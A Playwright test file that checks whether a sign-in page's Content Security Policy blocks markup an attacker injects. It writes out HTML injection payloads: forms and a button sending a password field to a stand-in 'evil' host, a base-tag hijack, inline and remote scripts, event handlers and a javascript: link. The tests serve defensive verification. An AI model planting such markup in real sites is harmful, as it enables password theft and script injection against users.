import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import { dist } from '#env/commands/shared/projectRoot.ts';
import { test } from '#tests/e2e/fixtures/test.ts';
import type { Sandbox } from '#tests/e2e/fixtures/sandboxTest.ts';
import { expectSignedIn, signInPage } from '#tests/e2e/sign-in/signInPage.ts';

const signInHtml = readFileSync(join(dist, 'prerendered', 'xe', 'en-GB', 'signin.html'), 'utf8');

/** Serves the sign-in page with markup that an attacker has added, under the headers of the account host. */
const injectMarkup = async (sandbox: Sandbox, place: '<head>' | '</body>', markup: string): Promise<void> => {
  const body = signInHtml.replace(place, place === '<head>' ? `<head>${markup}` : `${markup}</body>`);
  expect(body).toContain(markup);
  await sandbox.fail({
    host: 'account.xe.localhost',
    path: '/signin',
    status: 200,
    body,
    headers: { 'content-type': 'text/html; charset=utf-8' },
  });
};

const secretField = '<input name="password" aria-label="Confirm your password">';

const violation = (page: Page, directive: string): Promise<unknown> =>
  page.waitForEvent('console', (message) => new RegExp(`["']${directive} `).test(message.text()));

const leaks = async (sandbox: Sandbox): Promise<ReadonlyArray<string>> =>
  (await sandbox.requests('')).filter(({ host }) => host === 'evil.localhost').map(({ path }) => path);

const forms: ReadonlyArray<readonly [what: string, markup: (evil: string) => string]> = [
  ['a form', (evil) => `<form action="${evil}" method="post">${secretField}<button>Confirm</button></form>`],
  [
    'a form that sends with an address',
    (evil) => `<form action="${evil}">${secretField}<button>Confirm</button></form>`,
  ],
  ['a button', (evil) => `<form action="/signin">${secretField}<button formaction="${evil}">Confirm</button></form>`],
];

for (const [what, markup] of forms) {
  test(`${what} that an attacker adds to the sign-in page sends nothing to another site`, async ({
    page,
    sandbox,
    pageErrors,
  }) => {
    pageErrors.expect(/form-action/);
    await injectMarkup(sandbox, '</body>', markup(`${sandbox.origin('evil')}/form`));
    await page.goto('/signin');
    // Because: a prerendered page, which has only its own language in the list, keeps what is sent until the script of the app is there.
    await expect(page.getByRole('option', { name: 'Dansk' })).toHaveCount(1);
    await page.getByLabel('Confirm your password').fill('Correct-horse-9');
    const refused = violation(page, 'form-action');
    // Because: Playwright waits for the navigation of a form, which never comes.
    await page.getByRole('button', { name: 'Confirm', exact: true }).click({ noWaitAfter: true });
    await refused;
    expect(page.url()).toBe(`${sandbox.origin('account.xe')}/signin`);
    expect(await leaks(sandbox)).toEqual([]);
  });
}

test('a base address that an attacker adds does not move the scripts, links and forms of the page', async ({
  page,
  sandbox,
  pageErrors,
}) => {
  pageErrors.expect(/base-uri|Missing (?:platform|redirectUrl)/);
  await injectMarkup(sandbox, '<head>', `<base href="${sandbox.origin('evil')}/">`);
  const refused = violation(page, 'base-uri');
  await page.goto('/signin');
  await refused;
  expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
  await sandbox.clearFaults();
  await signInPage(page).signIn('personal@sandbox.test');
  await expectSignedIn(page, 'personal@sandbox.test');
  expect(await leaks(sandbox)).toEqual([]);
});

declare global {
  var attacks: ReadonlyArray<string> | undefined;
}

const attack = (name: string): string => `globalThis.attacks = [...(globalThis.attacks ?? []), '${name}']`;

/** Markup by the directive that must refuse it. */
const scripts = (evil: string): ReadonlyArray<readonly [directive: string, markup: string]> => [
  ['script-src', `<script>${attack('inline')}</script>`],
  ['script-src', `<img src="/brands/xe/logo.svg" alt="" onload="${attack('handler')}">`],
  ['script-src', `<script src="${evil}/script.js"></script>`],
  ['script-src', `<script type="module">import '${evil}/module.js'</script>`],
  ['style-src', '<style>body { display: none }</style>'],
  ['style-src', `<link rel="stylesheet" href="${evil}/style.css">`],
  ['img-src', `<img src="${evil}/image.png" alt="">`],
  ['object-src', `<object data="${evil}/object.svg"></object>`],
  ['default-src', `<iframe title="Advert" src="${evil}/frame"></iframe>`],
  ['default-src', `<video src="${evil}/video.mp4"></video>`],
];

test('markup that an attacker adds runs no script, changes no style and calls no other site', async ({
  page,
  sandbox,
  pageErrors,
}) => {
  pageErrors.expect(/(?:script|style|img|object|default|frame|media)-src/);
  for (const [directive, markup] of scripts(sandbox.origin('evil'))) {
    await sandbox.clearFaults();
    await injectMarkup(sandbox, '</body>', markup);
    const refused = violation(page, directive);
    await page.goto('/signin');
    await refused;
    await expect(signInPage(page).email).toBeVisible();
  }
  expect(await page.evaluate(() => globalThis.attacks)).toBeUndefined();
  expect(await leaks(sandbox)).toEqual([]);
});

test('an attacker’s link with a script runs nothing', async ({ page, sandbox, pageErrors }) => {
  pageErrors.expect(/script-src/);
  await injectMarkup(sandbox, '</body>', `<a href="javascript:${attack('link')}">Your prize</a>`);
  await page.goto('/signin');
  const refused = violation(page, 'script-src');
  await page.getByRole('link', { name: 'Your prize' }).click();
  await refused;
  expect(await page.evaluate(() => globalThis.attacks)).toBeUndefined();
});
